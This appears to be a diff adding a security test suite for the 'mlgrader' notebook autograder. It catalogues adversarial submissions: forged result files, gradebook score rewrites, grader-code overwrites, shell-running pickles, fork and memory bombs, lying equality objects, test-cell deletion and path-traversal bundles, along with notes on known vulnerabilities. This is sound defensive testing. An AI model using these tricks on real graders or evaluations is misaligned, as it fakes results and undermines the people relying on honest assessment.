+           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root with the bundle readable; "
+                                           "hidden tests leak into the result JSON"),)),
+    Attack("forged-result-files", "write results.json, grades.csv and feedback in cwd, .., the course folder "
+                                  "and /autograder/results", "stub", cells=(_after("setup-2", FORGED_RESULTS),),
+           exact_score=0.0),
+    Attack("gradebook-update", "UPDATE grade SET auto_score = max_score in gradebook.db by relative and absolute "
+                               "paths", "stub", cells=(_after("setup-2", GRADEBOOK),), exact_score=0.0,
+           modes=("bubblewrap", "subprocess"),
+           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root and rewrites the course's "
+                                           "gradebook.db by its absolute path"),)),
+    Attack("overwrite-grader-code", "find the grader's mlgrader package via /proc/<ppid>/environ and append code "
+                                    "to checks.py, which the grader imports at the first test", "wrong",
+           cells=(_after("setup-1", OVERWRITE_GRADER),), exact_score=5.0, grader_copy=True,
+           modes=("subprocess",),  # bubblewrap: see test_sandbox (only the scratch dir is writable)
+           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root, rewrites the grader's "
+                                           "mlgrader/checks.py and every test passes"),)),
+    Attack("pickle-files", "leave pickles (model.pt, results.pkl, an object .npy) whose __reduce__ runs a shell "
+                           "command, and set tested names to such objects", "stub",
+           cells=(_after("setup-2", PICKLE_FILES),), exact_score=0.0),
+    Attack("pickle-in-reply", "the fake helper answers with an object-dtype .npy (a pickle) as array data", "stub",
+           cells=(_after("setup-2", PICKLE_IN_REPLY),), exact_score=0.0,
+           xfail_reported=(("bubblewrap", "VULN: np.load's ValueError for an object array escapes run_test while "
+                                          "exporting names: nothing is unpickled, but the grader crashes"),)),
+    # -- the network and processes ------------------------------------------------------------
+    Attack("network", "TCP to a listener on the host's 127.0.0.1 and to outside addresses, UDP, DNS", "stub",
+           cells=(_after("setup-2", NETWORK),), exact_score=0.0),
+    Attack("orphan-process", "start a detached process (new session) that outlives the kernel", "stub",
+           cells=(_after("setup-2", ORPHAN),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
+           xfail_contained=(("subprocess", "VULN (fallback mode): processes in a new session survive the kernel's "
+                                           "shutdown and keep running after the grade"),)),
+    Attack("os-exit", "os._exit(0) in an exercise cell", "stub", cells=(("append:derivative", OS_EXIT),),
+           exact_score=0.0, expect=("died",), modes=("bubblewrap", "subprocess")),
+    Attack("os-exit-midway", "a correct notebook that calls os._exit(0) after the second test: later tests are lost",
+           "solved", cells=(_after("test-gd-loop", OS_EXIT),), exact_score=3.0, expect=("died",),
+           ),
+    Attack("sys-exit", "sys.exit(), raise SystemExit, exit() and quit() in cells", "stub", cells=SYS_EXIT_ALL,
+           exact_score=0.0),
+    Attack("sys-exit-solved", "a correct notebook calling sys.exit(0) after the first exercise still gets 8",
+           "solved", cells=(_after("derivative", SYS_EXIT),), exact_score=8.0),
+    Attack("fork-bomb", "fork until it fails (bounded at 1000; children sleep 4 s)", "stub",
+           cells=(_after("setup-2", FORK_BOMB),), exact_score=0.0),
+    Attack("infinite-loop", "while True: pass in an exercise cell", "stub",
+           cells=(("append:derivative", INFINITE_LOOP),), exact_score=0.0, expect=("time limit",),
+           modes=("bubblewrap", "subprocess")),
+    Attack("infinite-loop-no-sigint", "ignore SIGINT, then loop forever: the kernel cannot be interrupted",
+           "stub", cells=(("append:derivative", LOOP_IGNORING_SIGINT),), exact_score=0.0,
+           expect=("time limit", "died")),
+    Attack("loop-when-graded", "df loops forever on the grader's hidden array input", "solved",
+           cells=(("replace:derivative", LOOP_WHEN_GRADED),), exact_score=7.0, expect=("did not finish",)),
+    Attack("notebook-time-limit", "cells that each stay under the cell limit but exceed the notebook limit",
+           "solved", cells=tuple(_after("derivative", SLEEPY_CELLS) for _ in range(4)), bundle="tight",
+           max_score=8.0, expect=("time limit of",)),
+    Attack("memory-bytearray", "bytearray(50 GB)", "stub", cells=(("append:derivative", BYTEARRAY_BOMB),),
+           exact_score=0.0, expect=("MemoryError",)),
+    Attack("memory-growing-list", "a list that doubles until memory runs out", "stub",
+           cells=(("append:derivative", GROWING_LIST),), exact_score=0.0, expect=("MemoryError",),
+           bundle="lowmem"),
+    Attack("output-flood", "print 100 MB", "stub", cells=(("append:derivative", PRINT_FLOOD),), exact_score=0.0,
+           expect=("printed too much",)),
+    Attack("output-flood-mlgrader-mime", "400 MB of display_data whose MIME type contains 'mlgrader' (the output "
+                                         "cap lets those through)", "stub",
+           cells=(("append:derivative", MIME_FLOOD),), exact_score=0.0, runner="api", max_grader_rss_mb=300,
+           xfail_contained=(("bubblewrap", "VULN: _CappedClient.output never drops messages whose data keys "
+                                           "mention 'mlgrader': the grader keeps all 400 MB in memory"),)),
+    Attack("huge-error-message", "raise RuntimeError('A' * 20_000_000)", "stub",
+           cells=(("append:derivative", HUGE_ERROR),), exact_score=0.0,
+           xfail_contained=(("bubblewrap", "VULN: a cell's exception text is copied unbounded into "
+                                           "cells[].error: a 20 MB result JSON"),)),
+    # -- values that are hostile to the grader ------------------------------------------------
+    Attack("hostile-dunders", "objects equal to everything whose __len__/__array__/__repr__ raise and "
+                              "__float__ lies", "stub", cells=(_after("setup-2", HOSTILE_DUNDERS),), exact_score=0.0),
+    Attack("lying-subclasses", "float/list/ndarray subclasses whose __eq__ and ufuncs always say equal", "stub",
+           cells=(_after("setup-2", LYING_CONTAINERS),), exact_score=0.0),
+    Attack("object-arrays", "numpy object-dtype arrays of objects that say they equal anything", "stub",
+           cells=(_after("setup-2", OBJECT_ARRAYS),), exact_score=0.0),
+    Attack("huge-values", "lists nested 100 deep, 200000 items, a 5000-digit int, a 2 MB string", "stub",
+           cells=(_after("setup-2", HUGE_VALUES),), exact_score=0.0),
+    Attack("lying-tensor", "a torch.Tensor subclass holding zeros whose eq/allclose/isclose return True", "stub",
+           cells=(_after("setup-2", LYING_TENSOR),), exact_score=0.0),
+    # -- the notebook's structure ---------------------------------------------------------------
+    Attack("delete-tests", "delete every test cell of a wrong answer", "wrong", transform="delete_tests",
+           exact_score=5.0, expect=("was missing; it was put back",)),
+    Attack("duplicate-tests", "every test cell three times in a correct notebook (24 points?)", "solved",
+           transform="duplicate_tests", exact_score=8.0, expect=("appears more than once",)),
+    Attack("duplicate-exercise", "the exercise cells twice", "wrong", transform="duplicate_exercises",
+           exact_score=5.0, expect=("appears more than once; each copy ran",)),
+    Attack("reorder-tests-first", "move every test cell to the top", "wrong", transform="tests_first",
+           exact_score=5.0, expect=("above the cell it tests",)),
+    Attack("test-to-markdown", "turn the failing test cells into markdown", "wrong", transform="tests_to_markdown",
+           exact_score=5.0),
+    Attack("test-source-pass", "replace the source of every test cell with `pass`", "wrong",
+           transform="tests_pass", exact_score=5.0),
+    Attack("metadata-tampering", "points=100 and grade=false on tests, a new graded 'bonus' cell worth 50, "
+                                 "unlocked read-only cells", "wrong", transform="tamper_metadata", exact_score=5.0),
+    Attack("grade-id-spoof", "a `pass` cell with the grade id test-derivative at the top; the real one deleted",
+           "wrong", transform="spoof_grade_id", exact_score=5.0, expect=("above the cell it tests",)),
+    Attack("setup-edited", "the read-only setup cell patched to make np.allclose and abs lie", "wrong",
+           cells=(("replace:setup-1", "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
+                                      "import builtins\nbuiltins.abs = lambda x: 0.0"),),
+           exact_score=5.0, expect=("read-only cell setup-1 was changed",)),
+    Attack("exercise-to-markdown", "the derivative exercise turned into a markdown cell", "solved",
+           transform="exercise_to_markdown", expect=("markdown cell, so it did not run",)),
+    Attack("kernelspec-spoof", "metadata names a bash kernel and another language", "wrong",
+           transform="kernelspec_bash", exact_score=5.0),
+    # -- the file itself (graded with --assignment, as a batch would) ----------------------------
+    Attack("corrupt-json", "a correct notebook cut off in the middle of the JSON", "solved",
+           transform="corrupt_json", assignment_flag=True, exact_score=0.0, expect=("not valid notebook JSON",)),
+    Attack("nbformat-3", "a notebook in nbformat 3 (worksheets)", "solved", transform="nbformat3",
+           assignment_flag=True, exact_score=0.0, expect=("nbformat 3",)),
+    Attack("other-assignment", "the complete solution of 02-linear-regression submitted for 01", "stub",
+           transform="other_assignment", assignment_flag=True, exact_score=0.0,
+           expect=("belongs to assignment 02-linear-regression",)),
+    Attack("empty-notebook", "a notebook without cells", "stub", transform="no_cells", assignment_flag=True,
+           exact_score=0.0, expect=("missing",)),
+    Attack("empty-file", "a 0-byte file", "stub", transform="empty_file", assignment_flag=True, exact_score=0.0,
+           expect=("not valid notebook JSON",)),
+    Attack("binary-file", "random bytes named .ipynb", "stub", transform="binary_file", assignment_flag=True,
+           exact_score=0.0, expect=("not a text file",)),
+    Attack("non-string-source", "cells whose source is a number or a list of numbers", "solved",
+           transform="non_string_source", assignment_flag=True, exact_score=0.0, expect=("malformed",)),
+    Attack("huge-file", "a 65 MB notebook (one enormous markdown cell)", "stub", transform="huge_file",
+           assignment_flag=True, exact_score=0.0, expect=("over 64 MB",)),
+    Attack("bundle-path-absolute", "metadata assignment = absolute path of a bundle the student shipped "
+                                   "(tests: `pass` plus code that runs in the grader)", "stub",
+           transform="evil_bundle_absolute", exact_score=0.0,
+           xfail_contained=(("bubblewrap", "VULN: find_bundle joins the notebook's metadata assignment to "
+                                           "--autograder unchecked: a student bundle is graded (8/8) and its "
+                                           "tests run as code in the grader"),),
+           xfail_reported=(("bubblewrap", "VULN: graded as assignment '/...evil-bundle' instead of "
+                                          "01-gradient-descent"),)),
+    Attack("bundle-path-relative", "metadata assignment = ../<path> to a bundle the student shipped", "stub",
+           transform="evil_bundle_relative", exact_score=0.0,
+           xfail_contained=(("bubblewrap", "VULN: a '../' assignment id escapes --autograder (see "
+                                           "bundle-path-absolute)"),),
+           xfail_reported=(("bubblewrap", "VULN: graded as assignment '../...' instead of 01-gradient-descent"),)),
+)
+
+
+def attack_named(name: str) -> Attack:
+    return next(a for a in ATTACKS if a.name == name)
+
+
+# --------------------------------------------------------------------------- building
+
+
+@dataclass
+class Context:
+    """Per-run values the attack code and the checks share."""
+
+    root: Path  # scratch root of the whole run (the @SAFE@ prefix)
+    course: Path  # the grader's working directory
+    marker: Path
+    token: str
+    port: int = 9
+    autograder_root: Path | None = None  # the folder passed to --autograder
+
+    def fill(self, code: str) -> str:
+        return (code.replace("@MARKER@", str(self.marker)).replace("@PORT@", str(self.port))
+                .replace("@TOKEN@", self.token).replace("@COURSE@", str(self.course))
+                .replace("@SAFE@", str(self.root)))
+
+
+def _apply_cells(nb: dict, cells: tuple[tuple[str, str], ...], ctx: Context) -> None:
+    for where, code in cells:
+        code = ctx.fill(code)
+        if where == "top":
+            nb["cells"].insert(0, code_cell(code))
+        elif where == "end":
+            nb["cells"].append(code_cell(code))
+        else:
+            op, gid = where.split(":", 1)
+            index = next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == gid)
+            if op == "after":
+                # after the cell and any cells already injected after it
+                index += 1
+                while index < len(nb["cells"]) and grade_id(nb["cells"][index]) is None:
+                    index += 1
+                nb["cells"].insert(index, code_cell(code))
+            elif op == "before":
+                nb["cells"].insert(index, code_cell(code))
+            elif op == "replace":
+                nb["cells"][index]["source"] = code
+            elif op == "append":
+                nb["cells"][index]["source"] += "\n" + code
+            else:
+                raise ValueError(f"unknown cell operation {where!r}")
+
+
+def _is_test(cell: dict) -> bool:
+    return (grade_id(cell) or "") in TESTS
+
+
+def _t_delete_tests(nb, ctx):
+    nb["cells"] = [c for c in nb["cells"] if not _is_test(c)]
+    return nb
+
+
+def _t_duplicate_tests(nb, ctx):
+    cells = []
+    for c in nb["cells"]:
+        cells += [copy.deepcopy(c) for _ in range(3)] if _is_test(c) else [c]
+    for i, c in enumerate(cells):
+        c["id"] = f"dup-{i}"
+    nb["cells"] = cells
+    return nb
+
+
+def _t_duplicate_exercises(nb, ctx):
+    cells = []
+    for c in nb["cells"]:
+        cells += [c, copy.deepcopy(c)] if grade_id(c) in EXERCISES else [c]
+    for i, c in enumerate(cells):
+        c["id"] = f"dup-{i}"
+    nb["cells"] = cells
+    return nb
+
+
+def _t_tests_first(nb, ctx):
+    tests = [c for c in nb["cells"] if _is_test(c)]
+    nb["cells"] = tests + [c for c in nb["cells"] if not _is_test(c)]
+    return nb
+
+
+def _t_tests_to_markdown(nb, ctx):
+    for c in nb["cells"]:
+        if _is_test(c):
+            c["cell_type"] = "markdown"
+            c.pop("outputs", None)
+            c.pop("execution_count", None)
+    return nb
+
+
+def _t_tests_pass(nb, ctx):
+    for c in nb["cells"]:
+        if _is_test(c):
+            c["source"] = "pass"
+    return nb
+
+
+def _t_tamper_metadata(nb, ctx):
+    for c in nb["cells"]:
+        meta = c["metadata"].get("nbgrader")
+        if not isinstance(meta, dict):
+            continue
+        meta["locked"] = False
+        if _is_test(c):
+            meta.update(points=100, grade=False, solution=True)
+    nb["cells"].append(code_cell("pass", grade=True, grade_id="bonus", points=50, locked=True,
+                                 schema_version=3, solution=False, task=False))
+    return nb
+
+
+def _t_spoof_grade_id(nb, ctx):
+    nb["cells"] = [c for c in nb["cells"] if grade_id(c) != "test-derivative"]
+    nb["cells"].insert(0, code_cell("pass", grade=True, grade_id="test-derivative", points=1, locked=True,
+                                    schema_version=3, solution=False, task=False))
+    return nb
+
+
+def _t_exercise_to_markdown(nb, ctx):
+    cell = find_cell(nb, "derivative")
+    cell["cell_type"] = "markdown"
+    cell.pop("outputs", None)
+    cell.pop("execution_count", None)
+    return nb
+
+
+def _t_kernelspec_bash(nb, ctx):
+    nb["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
+    nb["metadata"]["language_info"] = {"name": "bash"}
+    return nb
+
+
+def _t_corrupt_json(nb, ctx):
+    raw = json.dumps(nb, indent=1).encode()
+    return raw[: len(raw) // 2]
+
+
+def _t_nbformat3(nb, ctx):
+    cells = []
+    for c in nb["cells"]:
+        if c["cell_type"] == "code":
+            cells.append({"cell_type": "code", "collapsed": False, "input": c["source"], "language": "python",
+                          "metadata": c["metadata"], "outputs": []})
+        else:
+            cells.append({"cell_type": "markdown", "metadata": c["metadata"], "source": c["source"]})
+    return {"metadata": nb["metadata"], "nbformat": 3, "nbformat_minor": 0,
+            "worksheets": [{"cells": cells, "metadata": {}}]}
+
+
+def _t_other_assignment(nb, ctx):
+    return load_notebook(OTHER_SOURCE_NB)
+
+
+def _t_no_cells(nb, ctx):
+    nb["cells"] = []
+    return nb
+
+
+def _t_empty_file(nb, ctx):
+    return b""
+
+
+def _t_binary_file(nb, ctx):
+    return bytes(range(256)) * 64
+
+
+def _t_non_string_source(nb, ctx):
+    raw = json.loads(json.dumps(nb))
+    find_cell(raw, "derivative")["source"] = 42
+    find_cell(raw, "gd-loop")["source"] = [1, 2, 3]
+    return json.dumps(raw).encode()
+
+
+def _t_huge_file(nb, ctx):
+    nb["cells"].append({"cell_type": "markdown", "id": "huge", "metadata": {}, "source": "x" * (65 * 2**20)})
+    return nb
+
+
+def _evil_bundle(ctx: Context) -> Path:
+    """A bundle the student ships next to the notebook: every test passes, and runs code."""
+    evil = ctx.course / "submission-files" / "evil-bundle"
+    if not evil.exists():
+        shutil.copytree(BUNDLE, evil, ignore=shutil.ignore_patterns("targets"))
+        for test in (evil / "tests" / NOTEBOOK).glob("*.py"):
+            test.write_text(f"open({str(ctx.marker)!r}, 'w').write('code from the submission ran in the grader')\n")
+    return evil
+
+
+def _t_evil_bundle_absolute(nb, ctx):
+    nb["metadata"]["mlgrader"]["assignment"] = str(_evil_bundle(ctx))
+    return nb
+
+
+def _t_evil_bundle_relative(nb, ctx):
+    evil = _evil_bundle(ctx)
+    nb["metadata"]["mlgrader"]["assignment"] = os.path.relpath(evil, ctx.autograder_root)
+    return nb
+
+
+TRANSFORMS = {name[3:]: fn for name, fn in globals().items() if name.startswith("_t_")}
+
+
+def build(attack: Attack, ctx: Context) -> bytes:
+    """The bytes of the attack's .ipynb file."""
+    nb = BASES[attack.base]()
+    _apply_cells(nb, attack.cells, ctx)
+    out = TRANSFORMS[attack.transform](nb, ctx) if attack.transform else nb
+    if isinstance(out, bytes):
+        return out
+    return json.dumps(out, indent=1).encode()
+
+
+# --------------------------------------------------------------------------- bundles
+
+
+BUNDLE_VARIANTS = {
+    # cell and test time limits small enough that timeouts cost seconds, not minutes
+    "fast": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0},
+    "lowmem": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0, "memory_mb": 1024},
+    "tight": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 10.0},
+}
+
+
+def make_bundle(root: Path, variant: str) -> Path:
+    """A copy of the real bundle with smaller limits and a canary line in every hidden test.
+
+    Returns the folder to pass as ``--autograder``.
+    """
+    settings = BUNDLE_VARIANTS[variant]
+    target = root / variant / ASSIGNMENT
+    shutil.copytree(BUNDLE, target, ignore=shutil.ignore_patterns("targets"))
+    manifest = json.loads((target / "manifest.json").read_text())
+    for nb in manifest["notebooks"]:
+        nb["timeout"] = settings["timeout"]
+        nb["memory_mb"] = settings.get("memory_mb", nb["memory_mb"])
+        for cell in nb["cells"]:
+            if cell["kind"] in ("setup", "exercise"):
+                cell["timeout"] = settings["cell_timeout"]
+            elif cell["kind"] == "test":
+                cell["timeout"] = settings["test_timeout"]
+    (target / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
+    for test in (target / "tests" / NOTEBOOK).glob("*.py"):
+        text = test.read_text()
+        assert "### BEGIN HIDDEN TESTS\n" in text, test
+        test.write_text(text.replace("### BEGIN HIDDEN TESTS\n", f"### BEGIN HIDDEN TESTS\n# {CANARY}\n", 1))
+    return root / variant
+
+
+def make_course(folder: Path) -> Path:
+    """A decoy course folder (the grader's cwd) with an nbgrader-like gradebook.db."""
+    folder.mkdir(parents=True, exist_ok=True)
+    db = sqlite3.connect(folder / "gradebook.db")
+    db.execute("CREATE TABLE grade (id TEXT, auto_score FLOAT, manual_score FLOAT, max_score FLOAT)")
+    db.executemany("INSERT INTO grade VALUES (?, 0, NULL, ?)", [(k, v) for k, v in TESTS.items()])
+    db.commit()
+    db.close()
+    (folder / "grades.csv").write_text("student,score,max_score\nalice,0,8\n")
+    return folder
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    """Relative path -> sha256 of every file under ``folder``."""
+    out = {}
+    for path in sorted(folder.rglob("*")):
+        if path.is_file() and not path.is_symlink():
+            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return out
+
+
+# --------------------------------------------------------------------------- running
+
+
+@dataclass
+class Outcome:
+    """What one `mlgrader grade --json` run gave."""
+
+    returncode: int
+    stdout: str
+    stderr: str
+    seconds: float
+    result: dict | None = None
+    grader_rss_mb: float | None = None
+
+    @property
+    def score(self) -> float:
+        return float(self.result["score"]) if self.result else 0.0
+
+    def text(self) -> str:
+        """Everything a student or instructor could read in the grade, lower case."""
+        if not self.result:
+            return ""
+        parts = list(self.result.get("messages", []))
+        parts += [t.get("output", "") for t in self.result.get("tests", [])]
+        parts += [c.get("error") or "" for c in self.result.get("cells", [])]
+        parts += [f"{c.get('label')} {c.get('status')}" for c in self.result.get("cells", [])]
+        return "\n".join(parts).lower()
+
+
+API_RUNNER = """\
+import json, resource, sys
+from pathlib import Path
+from mlgrader.grade import grade_notebook
+result = grade_notebook(Path(sys.argv[1]), autograder_dir=Path(sys.argv[2]), mode=sys.argv[3])
+print(result.to_json())
+print(f"MLGRADER-GRADER-MAXRSS-MB={resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.1f}", file=sys.stderr)
+"""
+
+
+def venv_bin() -> Path:
+    return Path(sys.executable).parent
+
+
+def grader_env(pythonpath: Path | None = None) -> dict[str, str]:
+    env = dict(os.environ)
+    env["PATH"] = os.pathsep.join([str(venv_bin()), env.get("PATH", "")])
+    env.pop("MLGRADER_SANDBOX", None)
+    env.pop("PYTHONPATH", None)
+    if pythonpath is not None:
+        env["PYTHONPATH"] = str(pythonpath)
+    return env
+
+
+def grade(notebook: Path, *, mode: str, autograder_root: Path, cwd: Path, assignment: str | None = None,
+          runner: str = "cli", pythonpath: Path | None = None, timeout: float = 300) -> Outcome:
+    """Grade ``notebook`` with the real command line (or the Python API, measuring memory)."""
+    if runner == "cli":
+        mlgrader = venv_bin() / "mlgrader"
+        argv = [str(mlgrader) if mlgrader.exists() else "mlgrader", "grade", str(notebook), "--json",
+                "--autograder", str(autograder_root), "--sandbox", mode]
+        if assignment:
+            argv += ["--assignment", assignment]
+    else:
+        argv = [sys.executable, "-P", "-c", API_RUNNER, str(notebook), str(autograder_root), mode]
+    started = time.monotonic()
+    proc = subprocess.run(argv, cwd=cwd, env=grader_env(pythonpath), capture_output=True, text=True,
+                          errors="replace", timeout=timeout)
+    outcome = Outcome(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - started)
+    try:
+        outcome.result = json.loads(proc.stdout) if proc.stdout.strip() else None
+    except json.JSONDecodeError:
+        outcome.result = None
+    found = re.search(r"MLGRADER-GRADER-MAXRSS-MB=([0-9.]+)", proc.stderr)
+    if found:
+        outcome.grader_rss_mb = float(found.group(1))
+    return outcome
+
+
+def processes_with(token: str) -> list[int]:
+    """Pids of live processes whose command line contains ``token``."""
+    pids = []
+    for proc in Path("/proc").iterdir():
+        if not proc.name.isdigit() or int(proc.name) == os.getpid():
+            continue
+        try:
+            if token.encode() in (proc / "cmdline").read_bytes():
+                pids.append(int(proc.name))
+        except OSError:
+            pass
+    return pids
+
+
+def copy_grader_source(root: Path) -> Path:
+    """A throwaway copy of src/ for attacks that overwrite the grader's code."""
+    import mlgrader
+
+    target = root / "grader-src"
+    if not target.exists():
+        shutil.copytree(Path(mlgrader.__file__).resolve().parent, target / "mlgrader",
+                        ignore=shutil.ignore_patterns("__pycache__"))
+    return target
+
+
+__all__ = ["ATTACKS", "Attack", "Context", "Outcome", "build", "grade", "make_bundle", "make_course",
+           "snapshot", "processes_with", "copy_grader_source", "HIDDEN_LINES", "CANARY", "BASE_SCORES"]
